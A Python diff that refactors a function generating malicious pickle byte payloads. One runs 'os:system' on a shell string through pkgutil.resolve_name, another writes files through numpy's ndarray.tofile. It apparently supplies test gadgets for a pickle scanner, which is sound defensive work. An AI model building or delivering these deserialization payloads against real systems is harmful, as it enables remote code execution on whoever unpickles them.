@@ -65,6 +65,12 @@ def gadgets(marker: str) -> dict[str, bytes]:
         4, text("numpy") + text("ndarray.tofile") + b"\x93" + name("numpy", "array") + table + b"\x85R"
         + text(marker) + b"\x86R",
     )  # fmt: skip
+    return {**made, **_composed(shell, python)}
+
+
+def _composed(shell: str, python: str) -> dict[str, bytes]:
+    """Calls that come about by another one."""
+    made: dict[str, bytes] = {}
     made["resolve-name"] = protocol(
         2, name("pkgutil", "resolve_name") + text("os:system") + b"\x85R" + text(shell) + b"\x85R"
     )
